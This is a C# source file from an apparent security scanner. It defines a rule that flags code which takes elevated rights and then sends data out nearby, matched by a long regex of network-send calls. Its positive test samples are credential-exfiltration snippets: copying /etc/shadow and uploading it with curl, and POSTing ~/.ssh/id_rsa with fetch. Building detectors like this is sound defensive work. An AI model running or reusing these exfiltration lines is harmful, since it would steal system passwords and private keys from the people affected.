using System.Collections.Frozen;
using System.Text.RegularExpressions;
using ApprovalGuard.Detection.Privilege.Patterns;
using ApprovalGuard.Detection.Privilege.Rules;
using ApprovalGuard.Findings;

namespace ApprovalGuard.Detection.Privilege;

/// <summary>
/// Code that gains rights and talks outward in one breath: what each alone may do for good reasons, together they take something away.
/// </summary>
internal static partial class RightsAndWayOut
{
    /// <summary>Lines between the two within which they belong together.</summary>
    private const int Near = 30;

    /// <summary>Rules that see rights being taken.</summary>
    private static readonly FrozenSet<string> Rights = new[]
    {
        "code-runs-sudo", "script-runs-sudo", "setuid-bit", "passwordless-sudo", "joins-root-group", "reads-credentials", "privileged-container", "host-mount", "login-key-added", "starts-with-machine", "guards-off", "cloud-admin-role",
    }.ToFrozenSet(StringComparer.Ordinal);

    /// <summary>The rule.</summary>
    public static readonly RuleInfo Rule = Rules.Rule.Structure("rights-and-way-out", Severity.High, "gains rights and talks outward", "https://attack.mitre.org/tactics/TA0010/",
        "Code that may read everything and sends something away can send anything away.", "Split the two: let one program read with rights and no network, another send without rights, and name what passes between them.") with
    {
        Positives =
        [
            new("data = subprocess.check_output([\"sudo\", \"cat\", path])\nrequests.post(URL, data=data)\n", "src/app.py"), new("const key = fs.readFileSync(path.join(os.homedir(), '.ssh/id_rsa'));\nawait fetch(url, { method: 'POST', body: key });\n", "src/app.js"),
            new("cat /etc/shadow > /tmp/s\ncurl -F f=@/tmp/s \"$URL\"\n", "deploy/run.sh"),
        ],
        Negatives =
        [
            new("subprocess.run([\"sudo\", \"systemctl\", \"restart\", name])\n", "src/app.py"), new("requests.post(URL, data=data)\n", "src/app.py"), new("sudo apt-get install -y jq\ncurl -d @report.json \"$URL\"\n", "deploy/run.sh"),
            new("subprocess.run([\"sudo\", \"true\"])\n" + new string('\n', 60) + "requests.post(URL)\n", "src/app.py"),
        ],
    };

    /// <summary>Calls that carry data out.</summary>
    [GeneratedRegex(@"\b(?:requests|httpx|session|aiohttp|urllib3)\.(?:post|put|request|patch)\s*\(|\burlopen\s*\(|\bhttp\.client\.HTTPS?Connection\s*\(|\b(?:smtplib\.SMTP|ftplib\.FTP|paramiko\.\w+|telnetlib)\b|\b(?:sock|socket|s|conn)\.(?:connect|sendall|sendto)\s*\("
        + @"|(?<![\w.])fetch\s*\(|\baxios(?:\.(?:post|put|request))?\s*\(|\bnavigator\.sendBeacon\s*\(|\bnew\s+(?:XMLHttpRequest|WebSocket)\b|\bhttps?\.request\s*\(|\bgot\.(?:post|put)\s*\(|\bnet\.(?:connect|createConnection)\s*\("
        + @"|\bhttp\.(?:Post|PostForm|NewRequest\w*)\s*\(|\bnet\.Dial\w*\s*\(|\b(?:PostAsync|PutAsync|SendAsync|PostAsJsonAsync|UploadString|UploadData|UploadFile)\w*\s*\(|\breqwest::|\bureq::|\bTcpStream::connect|\bNet::HTTP(?:\.post\w*|::Post|\.start)|\bFaraday\.|\bHTTParty\.post|\bRestClient\.post"
        + @"|\bcurl_exec\s*\(|\bfsockopen\s*\(|\bstream_context_create\s*\(|\bHttpURLConnection\b|\bHttpRequest\.newBuilder|\.newCall\s*\(|\bURLSession\."
        + @"|(?<![\w./\-])curl(?=\s)[^\n|;]{0,300}?(?:\s-(?:d|F|T)\b|--data\w*|--form|--upload-file|--json|-X\s*(?:POST|PUT)|--request[= ](?:POST|PUT))|(?<![\w./\-])wget(?=\s)[^\n|;]{0,200}?--post-|\|\s*(?:nc|ncat|netcat|socat)\s|(?<![\w./\-])(?:scp|rsync|sftp)\s[^\n|;]{0,200}?@[\w.\-]+:|\b(?:Invoke-WebRequest|Invoke-RestMethod|iwr|irm)\b[^\n]{0,200}?-(?:Body|InFile|Method\s+(?:Post|Put))", RegexOptions.IgnoreCase, 250)]
    private static partial Regex WayOut { get; }

    /// <summary>The ways out near to rights that the other rules saw in the piece, both on new lines.</summary>
    public static IEnumerable<Sighting> In(FileView file, SourceText piece, IReadOnlyList<Sighting> seen)
    {
        if (!file.Is(FileRole.Code | FileRole.Shell | FileRole.Page | FileRole.Instructions))
        {
            yield break;
        }

        var told = new HashSet<int>();
        foreach (var right in seen)
        {
            if (!Rights.Contains(right.Rule.Id) || !piece.TouchesTarget(right.Start, right.Length))
            {
                continue;
            }

            if (FirstWayOut(file, piece, right) is not { } found || !told.Add(found.Index))
            {
                continue;
            }

            var severity = right.Rule.Id is "script-runs-sudo" or "privileged-container" or "host-mount" && !file.Is(FileRole.Code) ? Severity.Medium : Severity.High;
            if (file.Weigh(severity, piece, found.Index) is { } weighed)
            {
                yield return new Sighting(Rule, found.Index, found.Length)
                {
                    Severity = weighed,
                    Message = $"gains rights and talks outward ({right.Rule.Title} in line {piece.LineNumber(piece.LineIndexAt(right.Start))})",
                };
            }
        }
    }

    private static (int Index, int Length)? FirstWayOut(FileView file, SourceText piece, Sighting right)
    {
        var (start, length) = Surroundings.Of(piece, right.Start, right.Length, Near);
        file.Effort.Spend(4 * length);
        for (var match = WayOut.Match(piece.Text, start, length); match.Success; match = match.NextMatch())
        {
            if (piece.TouchesTarget(match.Index, match.Length) && !file.IsComment(piece, match.Index))
            {
                return (match.Index, match.Length);
            }
        }

        return null;
    }
}
